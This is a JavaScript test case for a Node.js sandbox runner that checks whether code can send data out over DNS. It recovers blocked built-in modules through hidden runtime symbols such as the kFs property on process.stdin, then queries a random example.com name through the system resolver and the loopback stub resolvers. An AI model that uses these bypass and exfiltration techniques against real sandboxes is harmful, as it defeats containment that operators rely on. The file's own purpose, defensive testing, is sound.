// about: exfiltrate over DNS: dns.lookup and c-ares resolve4/resolveTxt of a unique name, via the configured resolver and the loopback stub resolvers 127.0.0.53 / 127.0.0.1
// expect-status: ok
// expect-result-has: {"resolved": false, "reached_resolver": false}
// control: skip would send queries to the host's real resolver, which is not a fixture
// limits: {"timeout_ms": 15000, "memory_mib": 128}
// Built-ins the way an attacker gets them: getBuiltinModule/require first; if the runner removed those back doors,
// dig them out of objects the runtime still exposes (an fs stream keeps the whole fs module under its kFs symbol -
// process.stdin is an fs.ReadStream when fd 0 is /dev/null - and stdio sockets hand out the net.Socket class).
const mod = (n) => {
  try { const m = process.getBuiltinModule && process.getBuiltinModule(n); if (m) return m; } catch (_) {}
  try { const m = require(n); if (m) return m; } catch (_) {}
  try {
    if (n === 'fs') for (const k of ['stdin', 'stdout', 'stderr']) { const s = process[k]; const y = s && Object.getOwnPropertySymbols(s).find((x) => x.description === 'kFs'); if (y && s[y] && typeof s[y].readFileSync === 'function') return s[y]; }
    if (n === 'net') for (const k of ['stdout', 'stderr', 'stdin']) { const C = process[k] && process[k].constructor; if (typeof C === 'function' && C.name === 'Socket' && typeof C.prototype.connect === 'function') return { Socket: C, connect: (...a) => new C().connect(...a), createConnection: (...a) => new C().connect(...a) }; }
  } catch (_) {}
  return null;
};
const errc = (e) => (e && typeof e === 'object' && (e.code || e.name)) ? String(e.code || e.name) : String(e);
const dns = mod('dns'); const crypto = mod('crypto'); const net = mod('net');

// A DNS *answer* of any kind (address, NXDOMAIN, SERVFAIL, REFUSED...) proves the query left the sandbox.
const answered = new Set(['ENOTFOUND', 'ENODATA', 'ESERVFAIL', 'EREFUSED', 'EFORMERR', 'ENOTIMP', 'EBADRESP', 'EBADNAME']);
const label = 'nodecell-exfil-' + crypto.randomBytes(6).toString('hex');
const name = label + '.example.com';
const withTimeout = (p, ms) => Promise.race([p, new Promise((_, rej) => setTimeout(() => rej(Object.assign(new Error('timeout'), { code: 'TIMEOUT' })), ms))]);
const out = { resolved: false, reached_resolver: false, dns_available: !!dns, attempts: {} };
// getaddrinfo through a plain socket connect (what net/http/fetch all do); works even when the dns module is out of reach.
if (net) {
  out.attempts.socket_lookup = await new Promise((resolve) => {
    let done = false, s, t;
    const fin = (r) => { if (done) return; done = true; clearTimeout(t); try { s && s.destroy(); } catch (_) {} resolve(r); };
    t = setTimeout(() => fin('TIMEOUT'), 2000);
    try {
      s = net.connect({ host: 'sock.' + name, port: 80 });
      s.once('lookup', (err, address) => { if (!err && address) { out.resolved = true; fin('resolved'); } else fin(errc(err)); });
      s.once('error', (e) => fin(errc(e)));
    } catch (e) { fin(errc(e)); }
  });
}
// getaddrinfo cannot be cancelled; it is raced against a timer (the thread-pool request may outlive the job).
try { const r = await withTimeout(dns.promises.lookup(name), 2000); out.attempts.lookup = 'resolved'; out.resolved = true; out.lookup_family = r.family; }
catch (e) { out.attempts.lookup = errc(e); }
// Only the configured resolver and loopback stubs: no query is aimed at a public server.
const servers = [null, ['127.0.0.53'], ['127.0.0.1']];
for (const s of servers) {
  const key = s ? s[0] : 'system';
  try {
    const r = new dns.promises.Resolver({ timeout: 500, tries: 1 });
    if (s) r.setServers(s);
    try { await withTimeout(r.resolve4(name), 2000); out.attempts['resolve4 ' + key] = 'resolved'; out.resolved = true; out.reached_resolver = true; }
    catch (e) { out.attempts['resolve4 ' + key] = errc(e); if (answered.has(e.code)) out.reached_resolver = true; }
    try { await withTimeout(r.resolveTxt('txt.' + name), 2000); out.attempts['resolveTxt ' + key] = 'resolved'; out.resolved = true; out.reached_resolver = true; }
    catch (e) { out.attempts['resolveTxt ' + key] = errc(e); if (answered.has(e.code)) out.reached_resolver = true; }
    try { r.cancel(); } catch (_) {}
  } catch (e) { out.attempts['resolver ' + key] = errc(e); }
}
return out;
